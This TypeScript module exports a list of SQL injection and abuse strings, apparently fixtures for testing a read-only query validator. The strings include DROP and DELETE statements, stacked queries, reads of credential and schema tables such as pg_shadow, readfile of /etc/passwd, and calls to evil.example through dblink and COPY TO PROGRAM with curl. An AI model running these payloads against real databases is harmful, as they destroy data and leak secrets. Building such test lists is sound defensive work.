/**
 * What an attacker would put in place of a statement: writes, a second statement, other tables, functions that reach
 * out of the database. `T` stands for a table that was seen.
 *
 * @module
 */

/** Statements that do more than read what was read. */
export const SQL_ATTACKS: readonly string[] = [
  "DROP TABLE T",
  "DELETE FROM T",
  "UPDATE T SET id = 0",
  "INSERT INTO T VALUES (1)",
  "REPLACE INTO T VALUES (1)",
  "ALTER TABLE T RENAME TO x",
  "CREATE TABLE x (a)",
  "CREATE TRIGGER x AFTER INSERT ON T BEGIN DELETE FROM T; END",
  "SELECT 1; DROP TABLE T",
  "SELECT * FROM T; DELETE FROM T",
  "WITH gone AS (DELETE FROM T RETURNING *) SELECT * FROM gone",
  "SELECT * FROM sqlite_master",
  "SELECT sql FROM sqlite_schema",
  "SELECT * FROM pg_shadow",
  "SELECT * FROM information_schema.tables",
  "SELECT * FROM staff_salaries",
  "SELECT * FROM users_private",
  "SELECT * FROM T UNION SELECT * FROM staff_salaries",
  "SELECT (SELECT salary FROM staff_salaries) FROM T",
  "SELECT * FROM T WHERE id IN (SELECT id FROM staff_salaries)",
  "SELECT * FROM T JOIN staff_salaries USING (id)",
  "WITH T AS (SELECT * FROM staff_salaries) SELECT * FROM T",
  "SELECT load_extension('/tmp/evil')",
  "SELECT readfile('/etc/passwd')",
  "SELECT writefile('/tmp/x', 'y')",
  "SELECT pg_read_file('/etc/passwd')",
  "SELECT * FROM dblink('host=evil.example', 'select 1')",
  "COPY T TO PROGRAM 'curl evil.example'",
  "ATTACH DATABASE '/tmp/evil.db' AS evil",
  "PRAGMA writable_schema = 1",
  "VACUUM INTO '/tmp/copy.db'",
  "SELECT * INTO OUTFILE '/tmp/x' FROM T",
  "EXPLAIN DELETE FROM T",
  "SELECT 1 /* */; /* */ DROP TABLE T",
  "select/**/*/**/from/**/staff_salaries",
  "DETACH DATABASE main",
  "' OR 1=1 --",
];
